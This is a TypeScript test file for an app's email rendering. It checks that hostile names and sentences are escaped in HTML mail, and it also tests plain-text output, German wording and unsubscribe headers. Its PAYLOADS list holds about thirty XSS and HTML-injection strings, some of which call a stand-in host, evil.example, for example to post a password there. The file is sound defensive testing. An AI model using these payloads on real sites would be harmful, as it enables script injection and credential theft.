import { describe, expect, test } from 'vitest'
import { wordsFor } from '../words.ts'
import { listHeaders, mailHtml, mailText } from './mail.ts'

/** What people have tried as a name or a sentence: each opens a tag, leaves an attribute, or comes back from an escape. */
const PAYLOADS = [
  '<script>alert(1)</script>', '<ScRiPt src=//evil.example/x.js></sCrIpT>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert&#40;1)</script>',
  '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '</p></div></body><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)>">', '<![CDATA[<script>alert(1)</script>]]>', '<style>body{background:url(//evil.example)}</style>', '<link rel=stylesheet href=//evil.example>',
  '<iframe srcdoc="<script>alert(1)</script>">', '<object data=//evil.example>', '<form action=//evil.example><input name=password>', '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>', '<a href="javascript:alert(1)">x</a>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '<details open ontoggle=alert(1)>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<table background="//evil.example">', '<\u0000script>alert(1)</script>',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E', '<x contenteditable onblur=alert(1)>', '<br>\n\n<br><img src=x>',
]

const mail = (hostile: string) => ({
  replyTo: 'reply+x@ws.example', list: { kind: 'batons' as const, unsubscribe: `https://longhand.example/unsubscribe/${hostile}` },
  body: { text: `${hostile} hands you a baton.\n\nSecond paragraph of ${hostile}.`, how: `Reply to ${hostile}.`, links: [{ label: `Answer ${hostile}`, url: `https://longhand.example/b/${hostile}` }] },
  reason: `Because of ${hostile}.`, publicUrl: 'https://longhand.example',
})

/** The tags of a page, with the value of each attribute taken out: what a mail program would build from it. */
const skeleton = (html: string) => [...html.matchAll(/<[^>]*>/g)].map(([tag]) => tag.replace(/"[^"]*"/g, '""'))

describe('mails in HTML', () => {
  test.each(PAYLOADS)('take %j as words', (hostile) => {
    const paragraphs = hostile.split(/\n{2,}/).length - 1
    const plain = skeleton(mailHtml(mail(`Ben${'\n\nx'.repeat(paragraphs)}`)))
    expect(skeleton(mailHtml(mail(hostile)))).toEqual(plain)
  })
})

describe('mails as text', () => {
  test('say what happened, where to act, why they came and how to have fewer', () => {
    expect(mailText(mail('Ben'))).toBe([
      'Ben hands you a baton.', '', 'Second paragraph of Ben.', '', 'Reply to Ben.', '', 'Answer Ben: https://longhand.example/b/Ben', '', '--', 'Because of Ben.',
      'Change what is mailed to you: https://longhand.example/settings', 'No more mails of this kind: https://longhand.example/unsubscribe/Ben', '',
    ].join('\n'))
  })

  test('say so in the language of their reader, and HTML names it', () => {
    const german = { ...mail('Ben'), words: wordsFor('de-CH') }
    expect(mailText(german)).toContain(['--', 'Because of Ben.', 'Ändern, was du per Mail bekommst: https://longhand.example/settings', 'Keine Mails dieser Art mehr: https://longhand.example/unsubscribe/Ben', ''].join('\n'))
    expect(mailHtml(german)).toMatch(/<html lang="de">.*>Ändern, was du per Mail bekommst<\/a>\. <a .*>Keine Mails dieser Art mehr<\/a>\./s)
    expect(skeleton(mailHtml(german))).toEqual(skeleton(mailHtml(mail('Ben'))).map((tag) => tag.startsWith('<html') ? '<html lang="">' : tag))
  })

  test('say nothing of replies where a reply does nothing, nor of fewer where each must arrive', () => {
    const { body, reason, publicUrl } = mail('Ben')
    for (const said of [mailText({ body, reason, publicUrl, replyTo: null, list: null }), mailHtml({ body, reason, publicUrl })]) {
      expect(said).not.toContain('Reply to Ben.')
      expect(said).not.toContain('unsubscribe')
    }
  })
})

describe('the headers of a kind of mail', () => {
  test('promise one click only over https', () => {
    const list = (scheme: string) => listHeaders({ publicUrl: `${scheme}://longhand.example:8443`, list: { kind: 'batons', unsubscribe: `${scheme}://longhand.example:8443/unsubscribe/x` } })
    expect(list('https')).toEqual({ 'List-Id': 'Longhand batons <batons.longhand.example>', 'List-Unsubscribe': '<https://longhand.example:8443/unsubscribe/x>', 'List-Unsubscribe-Post': 'List-Unsubscribe=One-Click' })
    expect(Object.keys(list('http'))).toEqual(['List-Id', 'List-Unsubscribe'])
    expect(listHeaders({ publicUrl: 'https://longhand.example', list: null })).toEqual({})
  })
})
